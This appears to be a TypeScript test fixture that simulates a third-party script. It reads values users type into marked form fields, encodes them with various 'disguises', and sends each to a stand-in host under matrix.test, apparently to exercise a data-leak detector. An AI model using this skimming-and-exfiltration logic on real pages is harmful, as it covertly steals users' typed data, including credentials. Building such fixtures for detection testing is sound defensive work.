import type { KindId } from "../../../src/kinds/index.ts";
import { disguises } from "../leaks/disguises.ts";
import type { Play } from "./cases.ts";
import { Buffer } from "./node.ts";
import { browserWays } from "./ways.ts";

/*
 * The script of another company: reads what was typed, disguises it, and sends it, each case to a host of its
 * own. Says in the page's title when it is through.
 */

/** Milliseconds without a key after which it begins, and between two cases. */
const pause = 1500;
const step = 30;

Object.assign(globalThis, { Buffer });
const plays = JSON.parse(document.currentScript?.dataset.plays ?? "[]") as Play[];
const fields = () => [
  ...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>("[data-kind]"),
];

async function playAll(): Promise<void> {
  const failed: string[] = [];
  for (const { n, disguise, way, kind } of plays) {
    const value = fields().find(({ dataset }) => dataset.kind === kind)?.value ?? "";
    try {
      const payload = disguises
        .find(({ id }) => id === disguise)
        ?.make({ kind: kind as KindId, value }, location.hostname);
      if (payload === undefined) throw new Error(`no ${disguise} of ${kind}`);
      const key = kind.replaceAll("-", "_");
      browserWays.find(({ id }) => id === way)?.send(`http://c${n}.matrix.test`, key, payload);
    } catch (error) {
      failed.push(`${n}: ${error}`);
    }
    await new Promise((later) => setTimeout(later, step));
  }
  document.title = failed.length === 0 ? "played" : `played, but ${failed}`;
}

let timer: ReturnType<typeof setTimeout> | undefined;
document.addEventListener("input", () => {
  clearTimeout(timer);
  if (fields().every(({ value }) => value !== "")) timer = setTimeout(playAll, pause);
});
